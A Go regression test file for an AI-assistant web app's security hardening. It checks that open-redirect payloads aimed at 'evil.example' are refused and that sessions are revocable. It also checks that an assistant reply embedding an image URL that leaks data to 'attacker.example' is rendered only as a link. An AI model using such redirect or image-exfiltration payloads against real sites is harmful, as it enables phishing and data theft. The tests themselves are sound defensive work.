package ui_test

// Regression tests for issue 11 (hardening): each failed before its fix.

import (
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/bcrypt"

	"github.com/assistantd/assistantd/agent"
	"github.com/assistantd/assistantd/db"
	"github.com/assistantd/assistantd/handlers/ui"
	"github.com/assistantd/assistantd/web"
)

// newAppWith is newApp with the UI configuration adjusted by opt and the
// web server's by wopt.
func newAppWith(t testing.TB, opt func(*ui.Config, *db.Store), wopt func(*web.Config)) *app {
	t.Helper()
	store, err := db.Open(testCtx(), t.TempDir(), db.WithPasswordCost(bcrypt.MinCost))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { store.Close() })
	return newAppOn(t, store, opt, wopt)
}

// newAppOn is newAppWith on the given store.
func newAppOn(t testing.TB, store *db.Store, opt func(*ui.Config, *db.Store), wopt func(*web.Config)) *app {
	t.Helper()
	a := &app{t: t, store: store, now: time.Now()}
	log := slog.New(slog.NewTextHandler(io.Discard, nil))
	cfg := ui.Config{Store: store, HashKey: make([]byte, 64), BlockKey: make([]byte, 32),
		SessionTTL: time.Hour, MaxUpload: 1 << 20, Log: log, Now: a.clock}
	if opt != nil {
		opt(&cfg, store)
	}
	ui := ui.New(cfg)
	wcfg := web.Config{UI: ui, Logger: log, Health: store.Ping}
	if wopt != nil {
		wopt(&wcfg)
	}
	a.srv = httptest.NewServer(web.New(wcfg))
	t.Cleanup(a.srv.Close)
	t.Cleanup(ui.CloseStreams)
	return a
}

// withEngine gives the web app a run engine that stores and queues runs
// (it is not started: nothing executes them, so they stay active).
func withEngine(cfg *ui.Config, store *db.Store) {
	providers, err := agent.NewProviders([]agent.ProviderConfig{{Name: "default", BaseURL: "http://127.0.0.1:1/v1", Models: []string{"*"}}}, nil)
	if err != nil {
		panic(err)
	}
	cfg.Engine = agent.New(store, providers, agent.NewHub(time.Minute), cfg.Log, agent.Config{Workers: 1, RunTimeout: time.Hour, MaxSteps: 5})
}

func location(res *http.Response) string { return res.Header.Get("Location") }

func TestNextRedirectStaysOnSite(t *testing.T) {
	a := newApp(t, "")
	if _, err := a.store.CreateUser(testCtx(), "x@example.com", db.RoleViewer, password); err != nil {
		t.Fatal(err)
	}
	bad := []string{
		"/\t/evil.example/x", "/\n/evil.example", "/\r/evil.example", "//evil.example", "/\\evil.example", "\\\\evil.example",
		"/%2F/evil.example", "/%5Cevil.example", "/%252F%252Fevil.example", "https://evil.example", "javascript:alert(1)",
		"evil.example", "", "/\x00/evil.example", "/ok\x7f", "/%09/evil.example", "/\u2028x",
	}
	good := []string{"/threads", "/threads?q=a+b&page=2", "/assistants/asst_1#top", "/"}
	// Through POST /login.
	for _, next := range append(bad, good...) {
		c := a.client()
		token := csrf(c.page("/login", http.StatusOK))
		res := c.post("/login", url.Values{"csrf_token": {token}, "email": {"x@example.com"}, "password": {password}, "next": {next}})
		want := "/"
		for _, g := range good {
			if next == g {
				want = g
			}
		}
		if res.StatusCode != http.StatusSeeOther || location(res) != want {
			t.Errorf("POST /login next=%q: %d to %q, want %q", next, res.StatusCode, location(res), want)
		}
	}
	// Signed in, GET /login?next=….
	c := a.user(db.RoleEditor)
	for _, next := range bad {
		res := c.get("/login?next=" + url.QueryEscape(next))
		if location(res) != "/" {
			t.Errorf("GET /login?next=%q redirects to %q, want /", next, location(res))
		}
	}
	// The raw form from the report.
	res := c.get("/login?next=/%09/evil.example/x")
	if location(res) != "/" {
		t.Errorf("GET /login?next=/%%09/evil.example/x redirects to %q", location(res))
	}
}

func TestThreadsSearchOddInput(t *testing.T) {
	a := newApp(t, "")
	ctx := testCtx()
	if _, _, err := a.store.CreateThread(ctx, db.Thread{}, []db.Message{
		{Role: "user", Status: "completed", Content: []db.ContentPart{{Type: "text", Text: &db.Text{Value: "invoice 42 overdue"}}}}}); err != nil {
		t.Fatal(err)
	}
	c := a.user(db.RoleViewer)
	// A search of nothing but control characters or invalid UTF-8 is an
	// empty search: every thread.
	for q, rows := range map[string]int{"\x00": 1, "invoice\x00": 1, "\x00invoice": 1, `"`: 0, `""`: 0, "NEAR(a b)": 0, "col:invoice": 0,
		"invoice*": 1, "^invoice": 1, "-invoice": 1, "a\x01b": 0, "\xff\xfe": 1, "invoice \x1f 42": 1} {
		res := c.get("/threads?q=" + url.QueryEscape(q))
		if res.StatusCode != http.StatusOK {
			t.Errorf("q=%q: status %d", q, res.StatusCode)
			continue
		}
		if got := testid(parse(t, res), "thread-row").Length(); got != rows {
			t.Errorf("q=%q: %d rows, want %d", q, got, rows)
		}
	}
}

func TestPasswordsOver72BytesRefused(t *testing.T) {
	long := strings.Repeat("p", 73)
	a := newApp(t, "setup-token")
	c := a.client()
	doc := c.page("/setup?token=setup-token", http.StatusOK)
	res := c.post("/setup", url.Values{"csrf_token": {csrf(doc)}, "token": {"setup-token"}, "email": {"root@example.com"},
		"password": {long}, "confirm": {long}})
	if res.StatusCode != http.StatusUnprocessableEntity {
		t.Fatalf("setup with a 73-byte password: status %d, want 422", res.StatusCode)
	}
	doc = parse(t, res)
	if v, _ := doc.Find(`input[name="email"]`).Attr("value"); v != "root@example.com" {
		t.Errorf("setup: the email was not kept (%q)", v)
	}
	if !strings.Contains(doc.Text(), "72 bytes") {
		t.Error("setup: no message about the length")
	}

	a = newApp(t, "")
	admin := a.user(db.RoleAdmin)
	res = admin.post("/settings/users", url.Values{"csrf_token": {admin.token()}, "email": {"new@example.com"}, "role": {"viewer"}, "password": {long}})
	if res.StatusCode != http.StatusUnprocessableEntity {
		t.Errorf("new user with a 73-byte password: status %d, want 422", res.StatusCode)
	} else if doc := parse(t, res); !strings.Contains(doc.Text(), "72 bytes") {
		t.Error("new user: no message about the length")
	} else if v, _ := doc.Find(`input[name="email"]`).Attr("value"); v != "new@example.com" {
		t.Errorf("new user: the email was not kept (%q)", v)
	}
	res = admin.post("/settings/account", url.Values{"csrf_token": {admin.token()}, "current": {password}, "password": {long}, "confirm": {long}})
	if res.StatusCode != http.StatusUnprocessableEntity {
		t.Errorf("own password of 73 bytes: status %d, want 422", res.StatusCode)
	} else if !strings.Contains(parse(t, res).Text(), "72 bytes") {
		t.Error("account: no message about the length")
	}
	users, _ := a.store.ListUsers(testCtx())
	res = admin.post("/settings/users/"+users[0].ID+"/password", url.Values{"csrf_token": {admin.token()}, "password": {long}})
	if res.StatusCode != http.StatusSeeOther {
		t.Errorf("reset to 73 bytes: status %d, want 303 with a message", res.StatusCode)
	} else if got := testid(admin.page(location(res), http.StatusOK), "flash").Text(); !strings.Contains(got, "72 bytes") {
		t.Errorf("reset: flash %q", got)
	}
	// Signing in with an over-long password is a wrong password, not a 500.
	c = a.client()
	token := csrf(c.page("/login", http.StatusOK))
	for _, email := range []string{"admin@example.com", "nobody@example.com"} {
		if res := c.post("/login", url.Values{"csrf_token": {token}, "email": {email}, "password": {long}}); res.StatusCode != http.StatusUnauthorized {
			t.Errorf("sign in as %s with 73 bytes: status %d, want 401", email, res.StatusCode)
		}
	}
}

func TestFlashNeverOverflowsTheCookie(t *testing.T) {
	a := newAppWith(t, withEngine, nil)
	ctx := testCtx()
	th, _, err := a.store.CreateThread(ctx, db.Thread{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	asst, err := a.store.CreateAssistant(ctx, db.Assistant{Model: "gpt-4o"})
	if err != nil {
		t.Fatal(err)
	}
	admin := a.user(db.RoleAdmin)

	// A 2,500-character run id in a cancel URL.
	res := admin.post("/threads/"+th.ID+"/runs/run_"+strings.Repeat("x", 2500)+"/cancel", url.Values{"csrf_token": {admin.token()}})
	if res.StatusCode >= 500 {
		t.Errorf("cancel with a long run id: status %d", res.StatusCode)
	}

	// A 5,000-character assistant id or role: the page comes back with
	// the message and the text typed.
	for name, form := range map[string]url.Values{
		"assistant_id": {"content": {"hello there"}, "role": {"user"}, "action": {"run"}, "assistant_id": {"asst_" + strings.Repeat("y", 5000)}},
		"role":         {"content": {"hello there"}, "role": {strings.Repeat("r", 5000)}, "action": {"run"}, "assistant_id": {asst.ID}},
		"role, add":    {"content": {"hello there"}, "role": {strings.Repeat("r", 5000)}, "action": {"add"}},
	} {
		form.Set("csrf_token", admin.token())
		res := admin.post("/threads/"+th.ID+"/messages", form)
		if res.StatusCode != http.StatusUnprocessableEntity {
			t.Errorf("%s: status %d, want 422", name, res.StatusCode)
			continue
		}
		doc := parse(t, res)
		if got := testid(doc, "composer-content").Text(); got != "hello there" {
			t.Errorf("%s: the composer holds %q, want the text typed", name, got)
		}
		if msg := testid(doc, "composer-error").Text(); msg == "" || len(msg) > 1000 {
			t.Errorf("%s: composer error %q", name, msg)
		}
	}

	// A 3,000-character email: refused before anything is stored.
	long := strings.Repeat("e", 3000) + "@example.com"
	res = admin.post("/settings/users", url.Values{"csrf_token": {admin.token()}, "email": {long}, "role": {"viewer"}, "password": {password}})
	if res.StatusCode != http.StatusUnprocessableEntity {
		t.Errorf("a 3,000-character email: status %d, want 422", res.StatusCode)
	}
	if users, _ := a.store.ListUsers(ctx); len(users) != 1 {
		t.Errorf("%d users stored, want only the admin", len(users))
	}
}

func TestAddMessageWhileARunIsActive(t *testing.T) {
	a := newAppWith(t, withEngine, nil)
	ctx := testCtx()
	th, _, err := a.store.CreateThread(ctx, db.Thread{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	asst, err := a.store.CreateAssistant(ctx, db.Assistant{Model: "gpt-4o"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := a.store.CreateRun(ctx, db.Run{ThreadID: th.ID, AssistantID: asst.ID, Model: "gpt-4o",
		TruncationStrategy: &db.TruncationStrategy{Type: "auto"}}, nil); err != nil {
		t.Fatal(err)
	}
	c := a.user(db.RoleEditor)
	for _, action := range []string{"add", "run"} {
		form := url.Values{"csrf_token": {c.token()}, "content": {"one more thing"}, "role": {"user"}, "action": {action}, "assistant_id": {asst.ID}}
		res := c.post("/threads/"+th.ID+"/messages", form)
		if res.StatusCode != http.StatusUnprocessableEntity {
			t.Errorf("%s during a run: status %d, want 422", action, res.StatusCode)
			continue
		}
		doc := parse(t, res)
		if got := testid(doc, "composer-content").Text(); got != "one more thing" {
			t.Errorf("%s: the composer holds %q", action, got)
		}
		if got := testid(doc, "composer-error").Text(); !strings.Contains(got, "active run") {
			t.Errorf("%s: composer error %q", action, got)
		}
	}
	if msgs, _ := a.store.ThreadTranscript(ctx, th.ID, 10); len(msgs) != 0 {
		t.Errorf("%d messages stored", len(msgs))
	}
}

func TestAssistantFormRefusesNonFiniteNumbers(t *testing.T) {
	a := newApp(t, "")
	c := a.user(db.RoleEditor)
	for _, v := range []string{"NaN", "nan", "Inf", "-Inf", "+Infinity", "1e999"} {
		for _, field := range []string{"temperature", "top_p"} {
			form := url.Values{"csrf_token": {c.token()}, "model": {"gpt-4o"}, "name": {"n"}, "action": {"save"}, field: {v}}
			res := c.post("/assistants/new", form)
			if res.StatusCode != http.StatusUnprocessableEntity {
				t.Errorf("%s=%s: status %d, want 422", field, v, res.StatusCode)
				continue
			}
			doc := parse(t, res)
			if testid(doc, "error-"+field).Text() == "" {
				t.Errorf("%s=%s: no message at the field", field, v)
			}
			if got, _ := doc.Find("#" + field).Attr("value"); got != v {
				t.Errorf("%s=%s: the field holds %q", field, v, got)
			}
		}
	}
	if all, _ := a.store.AllAssistants(testCtx()); len(all) != 0 {
		t.Errorf("%d assistants stored", len(all))
	}
}

func TestHSTS(t *testing.T) {
	for _, tt := range []struct {
		name       string
		tls, trust bool
		proto      string
		want       bool
	}{
		{"plain http", false, false, "", false},
		{"forwarded https, proxy not trusted", false, false, "https", false},
		{"forwarded https, trusted proxy", false, true, "https", true},
		{"forwarded http, trusted proxy", false, true, "http", false},
		{"tls", true, false, "", true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			a := newAppWith(t, func(cfg *ui.Config, _ *db.Store) { cfg.TrustProxy = tt.trust },
				func(w *web.Config) { w.TrustProxy = tt.trust })
			srv := a.srv
			if tt.tls {
				srv = httptest.NewUnstartedServer(srv.Config.Handler)
				srv.StartTLS()
				t.Cleanup(srv.Close)
			}
			for _, path := range []string{"/login", "/v1/models", "/healthz"} {
				req, _ := http.NewRequest(http.MethodGet, srv.URL+path, nil)
				if tt.proto != "" {
					req.Header.Set("X-Forwarded-Proto", tt.proto)
				}
				res, err := srv.Client().Do(req)
				if err != nil {
					t.Fatal(err)
				}
				res.Body.Close()
				got := res.Header.Get("Strict-Transport-Security")
				if (got != "") != tt.want || (tt.want && !strings.Contains(got, "max-age=")) {
					t.Errorf("%s: Strict-Transport-Security = %q, want it set: %v", path, got, tt.want)
				}
			}
		})
	}
}

func TestRemoteImagesAreLinksByDefault(t *testing.T) {
	a := newApp(t, "")
	ctx := testCtx()
	leak := "https://attacker.example/leak?d=SECRET"
	th, _, err := a.store.CreateThread(ctx, db.Thread{}, []db.Message{{Role: "assistant", Status: "completed", Content: []db.ContentPart{
		{Type: "text", Text: &db.Text{Value: "Look: ![chart](" + leak + ") and ![own](/files/file_1/content)"}},
		{Type: "image_url", ImageURL: &db.ImageURL{URL: "https://attacker.example/part.png"}},
	}}})
	if err != nil {
		t.Fatal(err)
	}
	c := a.user(db.RoleAdmin)
	res := c.get("/threads/" + th.ID)
	doc := parse(t, res)
	if n := doc.Find(`img[src*="attacker.example"]`).Length(); n != 0 {
		t.Errorf("%d remote images load by default", n)
	}
	if n := doc.Find(`a[href="` + leak + `"]`).Length(); n != 1 {
		t.Errorf("the remote image is not a link (%d links)", n)
	}
	if n := doc.Find(`a[href="https://attacker.example/part.png"]`).Length(); n != 1 {
		t.Errorf("the image_url part is not a link (%d links)", n)
	}
	if n := doc.Find(`img[src="/files/file_1/content"]`).Length(); n != 1 {
		t.Errorf("our own image does not load (%d)", n)
	}
	csp := res.Header.Get("Content-Security-Policy")
	if !strings.Contains(csp, "img-src 'self' data:;") && !strings.HasSuffix(csp, "img-src 'self' data:") {
		t.Errorf("CSP %q lets images load from elsewhere", csp)
	}

	// An admin opts in: remote images load, and the CSP allows them.
	res = c.post("/settings/remote-images", url.Values{"csrf_token": {c.token()}, "remote_images": {"on"}})
	if res.StatusCode != http.StatusSeeOther {
		t.Fatalf("opt in: status %d", res.StatusCode)
	}
	res = c.get("/threads/" + th.ID)
	doc = parse(t, res)
	if n := doc.Find(`img[src="` + leak + `"]`).Length(); n != 1 {
		t.Errorf("after opting in, %d remote images", n)
	}
	if csp := res.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "https:") {
		t.Errorf("after opting in, CSP %q", csp)
	}
	// Only admins may change it.
	editor := a.user(db.RoleEditor)
	if res := editor.post("/settings/remote-images", url.Values{"csrf_token": {editor.token()}}); res.StatusCode != http.StatusForbidden {
		t.Errorf("an editor changing the setting: status %d", res.StatusCode)
	}
}

// copyClient returns a client holding the same cookies as c: a session
// cookie copied off the machine.
func (a *app) copyClient(c *client) *client {
	cp := a.client()
	u, _ := url.Parse(c.base)
	cp.http.Jar.SetCookies(u, c.http.Jar.Cookies(u))
	return cp
}

func signedIn(c *client) bool {
	res := c.get("/settings/account")
	return res.StatusCode == http.StatusOK
}

func TestSessionsAreRevocable(t *testing.T) {
	a := newApp(t, "")
	ctx := testCtx()
	admin := a.user(db.RoleAdmin)

	t.Run("sign-out", func(t *testing.T) {
		c := a.user(db.RoleViewer)
		stolen := a.copyClient(c)
		if !signedIn(stolen) {
			t.Fatal("the copied cookie does not work at all")
		}
		c.post("/logout", url.Values{"csrf_token": {c.token()}})
		if signedIn(stolen) {
			t.Error("a copied cookie still works after sign-out")
		}
	})

	t.Run("password change", func(t *testing.T) {
		c := a.user(db.RoleEditor)
		stolen := a.copyClient(c)
		other := a.client() // the same user on another device
		token := csrf(other.page("/login", http.StatusOK))
		other.post("/login", url.Values{"csrf_token": {token}, "email": {"editor@example.com"}, "password": {password}})
		res := c.post("/settings/account", url.Values{"csrf_token": {c.token()}, "current": {password}, "password": {"brand-new-password"}, "confirm": {"brand-new-password"}})
		if res.StatusCode != http.StatusSeeOther {
			t.Fatalf("change password: status %d", res.StatusCode)
		}
		if !signedIn(c) {
			t.Error("changing the password signed out the session that changed it")
		}
		if signedIn(other) {
			t.Error("another session still works after a password change")
		}
		if signedIn(stolen) {
			t.Error("a copied cookie still works after a password change")
		}
	})

	users := map[string]string{}
	list := func() {
		all, _ := a.store.ListUsers(ctx)
		for _, u := range all {
			users[u.Email] = u.ID
		}
	}

	t.Run("role change", func(t *testing.T) {
		c := a.client()
		if _, err := a.store.CreateUser(ctx, "demote@example.com", db.RoleEditor, password); err != nil {
			t.Fatal(err)
		}
		token := csrf(c.page("/login", http.StatusOK))
		c.post("/login", url.Values{"csrf_token": {token}, "email": {"demote@example.com"}, "password": {password}})
		if !signedIn(c) {
			t.Fatal("not signed in")
		}
		list()
		res := admin.post("/settings/users/"+users["demote@example.com"]+"/role", url.Values{"csrf_token": {admin.token()}, "role": {"viewer"}})
		if res.StatusCode != http.StatusSeeOther {
			t.Fatalf("role change: status %d", res.StatusCode)
		}
		if signedIn(c) {
			t.Error("a session survives a role change")
		}
	})

	t.Run("password reset by an admin", func(t *testing.T) {
		c := a.client()
		if _, err := a.store.CreateUser(ctx, "reset@example.com", db.RoleViewer, password); err != nil {
			t.Fatal(err)
		}
		token := csrf(c.page("/login", http.StatusOK))
		c.post("/login", url.Values{"csrf_token": {token}, "email": {"reset@example.com"}, "password": {password}})
		list()
		admin.post("/settings/users/"+users["reset@example.com"]+"/password", url.Values{"csrf_token": {admin.token()}, "password": {"reset-password-2"}})
		if signedIn(c) {
			t.Error("a session survives a password reset")
		}
	})

	t.Run("admin signs a user out everywhere", func(t *testing.T) {
		c := a.client()
		if _, err := a.store.CreateUser(ctx, "everywhere@example.com", db.RoleViewer, password); err != nil {
			t.Fatal(err)
		}
		token := csrf(c.page("/login", http.StatusOK))
		c.post("/login", url.Values{"csrf_token": {token}, "email": {"everywhere@example.com"}, "password": {password}})
		stolen := a.copyClient(c)
		list()
		res := admin.post("/settings/users/"+users["everywhere@example.com"]+"/sessions/revoke", url.Values{"csrf_token": {admin.token()}})
		if res.StatusCode != http.StatusSeeOther {
			t.Fatalf("sign out everywhere: status %d", res.StatusCode)
		}
		if signedIn(c) || signedIn(stolen) {
			t.Error("a session survives the admin's sign out everywhere")
		}
		if !signedIn(admin) {
			t.Error("the admin was signed out too")
		}
	})

	t.Run("own sign out everywhere", func(t *testing.T) {
		c := a.signInAs("own@example.com")
		other := a.copyClient(c)
		res := c.post("/settings/account/sessions/revoke", url.Values{"csrf_token": {c.token()}})
		if res.StatusCode != http.StatusSeeOther {
			t.Fatalf("sign out everywhere: status %d", res.StatusCode)
		}
		if signedIn(c) || signedIn(other) {
			t.Error("a session survives sign out everywhere")
		}
	})
}

// signInAs creates a viewer with email and returns a client signed in
// as them.
func (a *app) signInAs(email string) *client {
	a.t.Helper()
	if _, err := a.store.CreateUser(testCtx(), email, db.RoleViewer, password); err != nil {
		a.t.Fatal(err)
	}
	c := a.client()
	token := csrf(c.page("/login", http.StatusOK))
	if res := c.post("/login", url.Values{"csrf_token": {token}, "email": {email}, "password": {password}}); res.StatusCode != http.StatusSeeOther {
		a.t.Fatalf("sign in as %s: status %d", email, res.StatusCode)
	}
	return c
}

func TestFlashesDoNotPileUp(t *testing.T) {
	a := newApp(t, "")
	admin := a.user(db.RoleAdmin)
	users, _ := a.store.ListUsers(testCtx())
	token := admin.token()
	// A client that does not follow the redirects never sees the
	// messages; they must not pile up in the session cookie.
	for i := range 100 {
		res := admin.post("/settings/users/"+users[0].ID+"/password", url.Values{"csrf_token": {token}, "password": {"short"}})
		if res.StatusCode != http.StatusSeeOther {
			t.Fatalf("post %d: status %d", i+1, res.StatusCode)
		}
	}
	doc := admin.page("/settings/users", http.StatusOK)
	if got := testid(doc, "flash").Length(); got != 1 {
		t.Errorf("%d flash messages shown, want the latest only", got)
	}
}
